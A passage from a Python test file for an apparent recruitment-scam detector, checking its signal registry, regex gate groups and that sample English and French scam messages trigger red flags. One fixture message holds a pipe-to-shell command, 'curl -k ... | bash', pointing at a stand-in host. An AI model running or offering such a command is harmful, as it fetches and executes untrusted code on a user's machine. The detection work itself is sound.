    infos = [s.info() for s in REGISTRY]
    assert all(i["polarity"] in {"risk", "benign", "context"} for i in infos)
    by_name = {i["name"]: i["polarity"] for i in infos}
    assert by_name["web3_pitch"] == "context"
    assert by_name["company_pays_costs"] == "benign" == by_name["video_interview_offered"]
    assert by_name["pay_to_work"] == "risk" == by_name["run_our_code"]


def test_gate_groups_hold_message_only_pattern_signals() -> None:
    from recruitscore.signals import GATE_GROUPS, PatternSignal

    names = [n for g in GATE_GROUPS for n in g]
    assert len(names) == len(set(names))
    for n in names:
        s = get_signal(n)
        assert isinstance(s, PatternSignal) and tuple(s.patterns) == ("message",)
        assert not s.on_original


def test_gate_unions_stay_small() -> None:
    """A union too large for RE2's automaton budget runs several times slower than its parts."""
    from recruitscore.signals import _BY_NAME, GATE_GROUPS, _gate_pattern
    from recruitscore.signals.catalog_fraud import GATE_UNION_MAX

    for group in GATE_GROUPS:
        union = "|".join(f"(?:{_gate_pattern(_BY_NAME[n])})" for n in group)
        assert len(union) <= GATE_UNION_MAX, (group, len(union))


def test_gated_column_path_equals_each_signal_alone() -> None:
    rows = [{"message": t} for _, t, _, _ in TABLE] * 3
    df = pd.DataFrame(rows)
    frame = extract_signals_frame(df)
    from recruitscore.signals import GATE_GROUPS, make_batch

    batch, _ = make_batch(df)
    for name in (n for g in GATE_GROUPS for n in g):
        alone = get_signal(name).detect_frame(batch)  # every row, no shared gate
        assert (frame[name].to_numpy() == alone).all(), name


# Informal first messages as strangers write them (illustrative, written for these tests): typos,
# "u"/"ur", no punctuation. Each must raise at least the listed red flags.
INFORMAL = [
    ("Hello dear, we are hiring part time workers, earn 200-500 USD daily, just need a phone, "
     "intrested? reply on whatsap", {"easy_money", "off_platform_request"}),
    ("Congrats!! U have been hired as our remote admin assistant. we will mail u a check to buy "
     "ur office equipment from our vendor",
     {"offer_without_interview", "low_skill_remote_role", "cheque_forwarding", "pay_to_work"}),
    ("Hey, we are building a web3 gaming platform. Before the interview could you pls clone our "
     "repo from bitbucket and run it, theres a small bug we want u to fix",
     {"run_our_code", "adhoc_code_hosting", "web3_pitch"}),
    ("Hi, during our zoom the camera didnt work for you. Please run this in terminal to fix: "
     "curl -k https://zoomfix.example/up.sh | bash",
     {"interview_software_download", "paste_command"}),
    # (« retenu. » alone is no offer without interview, as "selected." is not: rule R21-H)
    ("Salut ! Ton profil a été retenu. Pour valider ton inscription il faut payer 30€ de frais de "
     "dossier.", {"pay_to_work"}),
    ("Bonjour, poste en télétravail, 150€/jour, sans expérience, contactez moi sur WhatsApp",
     {"easy_money", "off_platform_request"}),
    ("hi dear, online job from ur phone, like tiktok videos and earn 3000 rs daily, text me on "
     "What'sApp", {"easy_money", "task_scam", "off_platform_request"}),
    ("Bonjour, job en ligne à faire pendant ton temps libre, écris-moi sur What'sApp",
     {"easy_money", "off_platform_request"}),
]


@pytest.mark.parametrize(("text", "expected"), INFORMAL)
def test_informal_messages(text, expected) -> None:
    fired = {h.name for h in extract_signals(text)}
    assert expected <= fired, expected - fired


@pytest.mark.parametrize("text", [
    "Les frais de formation de 150 € sont à régler avant lundi, nous remboursons après le premier "
    "salaire.",
    "Le matériel est à notre charge, le kit de démarrage coûte 120 €.",
    "The company will reimburse the $90 background check fee once you start.",
])
def test_a_company_pays_line_does_not_cancel_another_fee(text: str) -> None:
    """A company paying for one thing, or promising a refund later, does not cancel a fee the
    candidate is asked for (a review of rule R19-F, which was reverted)."""
    assert "pay_to_work" in {h.name for h in extract_signals(text)}
